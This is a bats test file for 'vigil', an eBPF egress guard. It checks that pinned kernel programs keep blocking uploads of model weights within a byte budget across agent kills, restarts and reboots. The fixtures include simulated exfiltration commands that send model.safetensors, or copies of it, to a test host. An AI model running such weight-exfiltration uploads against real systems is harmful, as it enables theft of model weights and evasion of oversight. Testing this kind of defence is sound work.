#!/usr/bin/env bats
# Enforcement that survives the agent (run --pin): programs, links and the
# state maps are pinned in bpffs (each test has its own bpffs, unmounted in
# teardown), so the kernel goes on tainting, counting, denying and killing
# when the agent is SIGKILLed; a restarted agent adopts the state (no reset
# of budgets) and reports how its predecessor ended.

load ../lib/harness

setup() { vigil_setup; pin_setup; }
teardown() { vigil_teardown; }

BUDGET=$((256 << 10))

# pinned_agent ARGS...: an enforcing, pinned agent with a 256 KiB budget
pinned_agent() {
	start_agent --mode enforce --budget "$BUDGET" --pin --pin-dir "$PIN_DIR" "$@"
}

# restart_agent: a new agent on the same pins, alerts to a fresh file
restart_agent() {
	ALERTS="$T/alerts-$1.jsonl"
	pinned_agent
}

@test "survive: kill -9 mid-transfer in enforce mode: the receiver still gets <= budget; the restarted agent reports it" {
	start_sink tcp
	pinned_agent
	# a slow drip (8 KiB every 50 ms): the budget is reached ~1.6 s in
	in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" \
		--port "$PORT" --chunk 8192 --pace 0.05 > "$T/leak.out" 2>&1 &
	leaker=$!
	run alert_wait --timeout 10 rule=weights-egress
	[ "$status" -eq 0 ]
	kill -KILL "$AGENT_PID"
	wait "$AGENT_PID" 2>/dev/null || true
	AGENT_PID=""
	before="$(cat "$T/sink-$PORT-tcp" 2>/dev/null || echo 0)"
	[ "$before" -lt "$BUDGET" ]		# the kill really was mid-transfer
	# no agent now: the pinned programs stop the drip at the budget
	rc=0
	wait "$leaker" || rc=$?
	[ "$rc" -eq 137 ]			# killed in the kernel
	got="$(sink_bytes)"
	figure "sink bytes, agent SIGKILLed mid-transfer (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	[ "$got" -gt "$before" ]		# the drip went on while no agent ran
	# the next agent adopts the state and reports the unclean stop
	restart_agent 2
	run alert_wait --timeout 5 kind=agent_adopt adopted=true previous_exit=unclean
	[ "$status" -eq 0 ]
	run alert_get kernel.kills kind=agent_adopt
	[ "$output" -ge 1 ]
	# the SIGKILL itself, recorded before delivery in the pinned ring
	run alert_wait --timeout 5 kind=agent_tamper signal=SIGKILL previous_agent=true sender.comm=bash
	[ "$status" -eq 0 ]
	# what the kernel did alone, queued in the pinned ring buffer, is reported now
	run alert_wait --timeout 5 kind=alert action=killed
	[ "$status" -eq 0 ]
	# and the budget was not reset by the restart
	spent="$("$VIGIL" status --json | jq '.sets[0].budget.spent_bytes')"
	[ "$spent" -gt 0 ]
	"$VIGIL" stop --unpin --pin-dir "$PIN_DIR"
	AGENT_PID=""
	[ ! -e "$PIN_DIR" ]
}

@test "survive: with no agent, the pinned programs still taint and deny; a restart resets no budget" {
	start_sink tcp
	pinned_agent
	run in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	first="$(sink_bytes)"
	[ "$first" -le "$BUDGET" ]
	kill -KILL "$AGENT_PID"
	wait "$AGENT_PID" 2>/dev/null || true
	AGENT_PID=""
	# a new reader, no agent: tainted in the kernel, its fresh connection
	# killed by the kernel on the spent budget, nothing more delivered
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	# restarted: the spent budget is still spent, so a pre-connected sender
	# gets nothing more out
	restart_agent 2
	run in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	total="$(sink_bytes)"
	figure "sink bytes over two agents and one gap (budget $BUDGET)" "$total"
	[ "$total" -le "$BUDGET" ]
}

@test "survive: SIGTERM leaves the pins enforcing; vigil stop --unpin removes programs, links and maps" {
	bats_require_minimum_version 1.5.0
	start_sink tcp
	pinned_agent
	stop_agent
	[ -d "$PIN_DIR/links" ]
	! bpf_visible || [ "$(bpftool cgroup show "$CG" | grep -c vigil_)" -ge 4 ]
	run grep -x 'clean 1' "$VIGIL_RUN_DIR/agent.state"
	[ "$status" -eq 0 ]
	# the pinned programs still enforce, with no agent: killed at the budget
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run "$VIGIL" stop --unpin --pin-dir "$PIN_DIR"
	[ "$status" -eq 0 ]
	[[ "$output" == *"removed"* ]]
	[ ! -e "$PIN_DIR" ]
	[ "$(bpftool cgroup show "$CG" | grep -c vigil_ || true)" -eq 0 ]
	# nothing enforces now
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	# a restart after a clean stop says so
	pinned_agent
	kill -KILL "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null || true; AGENT_PID=""
	"$VIGIL" stop --unpin --pin-dir "$PIN_DIR"
	[ ! -e "$PIN_DIR" ]
}

@test "survive: pinned state for other protect sets is replaced, not adopted, and said so" {
	start_sink tcp
	pinned_agent
	kill -KILL "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null || true; AGENT_PID=""
	printf 'protect:\n  - name: first\n    paths: ["%s/other/**"]\n' "$T" > "$T/sets.yaml"
	ALERTS="$T/alerts-2.jsonl"
	pinned_agent --rules "$T/sets.yaml"
	run alert_wait --timeout 5 kind=agent_adopt adopted=false previous_exit=unclean
	[ "$status" -eq 0 ]
	[[ "$(alert_get reason kind=agent_adopt)" == *"protect sets changed"* ]]
	# the new agent enforces on its own fresh state
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	# only the new agent's 7 cgroup programs (the old links are gone):
	# egress, relay, sock_create, connect4/6, sendmsg4/6 (where bpftool
	# may see them)
	bpf_visible || return 0
	for _ in $(seq 20); do
		[ "$(bpftool cgroup show "$CG" | grep -c vigil_)" -eq 7 ] && break
		sleep 0.1
	done
	bpftool cgroup show "$CG"
	[ "$(bpftool cgroup show "$CG" | grep -c vigil_)" -eq 7 ]
}

@test "survive: pinned state of other map sizes is replaced, not adopted, and the reason names --map-size" {
	start_sink tcp
	pinned_agent
	kill -KILL "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null || true; AGENT_PID=""
	ALERTS="$T/alerts-2.jsonl"
	pinned_agent --map-size flows=32768
	run alert_wait --timeout 5 kind=agent_adopt adopted=false previous_exit=unclean
	[ "$status" -eq 0 ]
	[[ "$(alert_get reason kind=agent_adopt)" == *"map sizes changed (--map-size)"* ]]
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
}

@test "survive: restarts under load (SIGKILL, SIGTERM, SIGKILL) neither reset nor double-count the budget" {
	start_sink tcp
	pinned_agent
	# 4 KiB every 50 ms: ~80 KiB/s, the 256 KiB budget lasts ~3 s of restarts
	in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" \
		--port "$PORT" --chunk 4096 --pace 0.05 > "$T/leak.out" 2>&1 &
	leaker=$!
	run alert_wait --timeout 10 rule=weights-egress
	[ "$status" -eq 0 ]
	for sig in KILL TERM KILL; do
		kill -"$sig" "$AGENT_PID"
		wait "$AGENT_PID" 2>/dev/null || true
		AGENT_PID=""
		restart_agent "$sig-$RANDOM"
	done
	rc=0
	wait "$leaker" || rc=$?
	[ "$rc" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes across three agent restarts under a drip (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	# all of it counted once: what the kernel let through is what arrived
	# (a packet counted by two agents' programs would make spent outrun it)
	spent="$("$VIGIL" status --json | jq '.sets[0].budget.spent_bytes')"
	figure "budget spent_bytes after the restarts" "$spent"
	[ "$spent" -le "$BUDGET" ]
	[ "$got" -le "$spent" ]
	[ $((spent - got)) -le 8192 ]
}

# A reboot clears bpffs: an agent without pins to adopt is what the next
# boot starts with. The state file carries the spent budget across it.
@test "survive: spend half the budget, reboot (no pinned state): the rest of the budget is all that gets out" {
	head -c $((BUDGET / 2)) /dev/urandom > "$W/half.safetensors"
	start_sink tcp
	start_agent --mode enforce --budget "$BUDGET" --state-file "$T/state"
	leak --connect-first --src "$W/half.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	half="$(sink_bytes)"
	[ "$half" -eq $((BUDGET / 2)) ]
	stop_agent
	grep -q "^set cli $((BUDGET / 2))\$" "$T/state"
	# the "reboot": nothing pinned, a new agent on the same state file
	ALERTS="$T/alerts-2.jsonl"
	start_agent --mode enforce --budget "$BUDGET" --state-file "$T/state"
	leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes over a reboot, half spent before it (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	[ "$got" -gt "$half" ]		# the other half was there to spend
	run alert_wait --timeout 5 rule=weights-egress-budget action=killed
	[ "$status" -eq 0 ]
	stop_agent
	# without the file the budget would have started afresh: the file is it
	[ "$(awk '/^set cli/ {print $3}' "$T/state")" -ge "$((BUDGET / 2))" ]
}

# copy_and_stop MODE: a tainted cp copies the weights to $T/stash/copy.bin
# under an agent with a state file, which writes the copies file; it stops
copy_and_stop() {
	start_sink tcp
	start_agent --mode "$1" --state-file "$T/state"
	mkdir -p "$T/stash"
	run in_cg cp "$W/model.safetensors" "$T/stash/copy.bin"
	[ "$status" -eq 0 ]
	for _ in $(seq 50); do
		grep -q "^copy .* $T/stash/copy.bin\$" "$T/state.copies" 2>/dev/null && break
		sleep 0.1
	done
	stop_agent
}

# copy_then_reboot MODE AGENT-ARGS...: copy_and_stop, then a new agent (no
# pins: the "reboot") with AGENT-ARGS, and an upload of the copy by a
# process that never touched the weights
copy_then_reboot() {
	local mode="$1"
	shift
	copy_and_stop "$mode"
	ALERTS="$T/alerts-2.jsonl"
	start_agent --mode "$mode" "$@"
	leak --src "$T/stash/copy.bin" --host "$PEER4" --port "$PORT"
}

# upload_unnoticed ALERTS: a monitor agent writing ALERTS on the same state
# file lets an upload of the copy through with no weights alert
upload_unnoticed() {
	ALERTS="$1"
	start_agent --mode monitor --state-file "$T/state"
	leak --src "$T/stash/copy.bin" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	stop_agent
	run alert_none kind=alert rule=weights-egress
	[ "$status" -eq 0 ]
}

# A copy made before a reboot is still a copy of the weights after it: the
# copies file (beside the state file) protects it again, named by them.
@test "survive: a copy of the weights made before a reboot stays protected after it, named by the weights (enforce)" {
	copy_then_reboot enforce --state-file "$T/state" --budget "$BUDGET"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes: copy made before a reboot, uploaded after (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait --timeout 5 action=killed severity=critical \
		taint.sources.0.path="$W/model.safetensors" taint.chain.0.comm=cp \
		taint.chain.1.via=file taint.chain.1.path="$T/stash/copy.bin"
	[ "$status" -eq 0 ]
	grep -q "1 copies protected again" "$AGENT_ERR"
	stop_agent
}

@test "survive: monitor: a copy made before a reboot is alerted after it; without the copies file it is not" {
	copy_then_reboot monitor --state-file "$T/state"
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
		taint.chain.1.path="$T/stash/copy.bin"
	[ "$status" -eq 0 ]
	stop_agent
	# the same without the file: the copy is an ordinary file again
	rm "$T/state.copies"
	upload_unnoticed "$T/alerts-3.jsonl"
}

@test "survive: a copy replaced after the reboot (another inode at its path) is not protected again" {
	copy_and_stop monitor
	grep -q "^src [0-9]* $W/model.safetensors\$" "$T/state.copies"
	rm "$T/stash/copy.bin"
	head -c $((1 << 20)) /dev/urandom > "$T/stash/copy.bin"
	upload_unnoticed "$T/alerts-2.jsonl"
	grep -q "0 copies protected again, 1 gone or changed" "$AGENT_ERR"
}

@test "survive: a copies file that does not validate is an agent_error naming it; the agent runs" {
	printf 'vigil-copies 1\nsets cli\ncopy 1 2 3\nsha256 %064d\n' 0 > "$T/state.copies"
	start_agent --mode enforce --state-file "$T/state"
	run alert_wait --timeout 5 kind=agent_error "message~copies file $T/state.copies: checksum does not match"
	[ "$status" -eq 0 ]
	stop_agent
	# a signed file with a bad line: the line is named
	body="$(printf 'vigil-copies 1\nsets cli\nbogus line\n')"
	printf '%s\nsha256 %s\n' "$body" "$(printf '%s\n' "$body" | sha256sum | cut -d' ' -f1)" > "$T/state.copies"
	ALERTS="$T/alerts-2.jsonl"
	start_agent --mode monitor --state-file "$T/state"
	run alert_wait --timeout 5 kind=agent_error "message~line 3: not a copies line"
	[ "$status" -eq 0 ]
	stop_agent
}

@test "survive: a state file that does not validate fails closed in enforce mode, says so, and starts afresh in monitor mode" {
	start_sink tcp
	printf 'vigil-state 1\nsaved 1\nset cli 10\nsha256 %064d\n' 0 > "$T/state"
	start_agent --mode enforce --budget "$BUDGET" --state-file "$T/state"
	run alert_wait --timeout 5 kind=agent_error "message~checksum does not match"
	[ "$status" -eq 0 ]
	[[ "$(alert_get message kind=agent_error)" == *"every budget counts as spent (fail closed)"* ]]
	leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -eq 0 ]
	stop_agent
	# monitor mode: a warning, and nothing is held back
	echo garbage > "$T/state"
	ALERTS="$T/alerts-2.jsonl"
	start_agent --budget "$BUDGET" --state-file "$T/state"
	run alert_wait --timeout 5 kind=agent_error "message~budgets start afresh"
	[ "$status" -eq 0 ]
	stop_agent
	# and the agent wrote a valid one back
	grep -q '^vigil-state 1$' "$T/state"
}
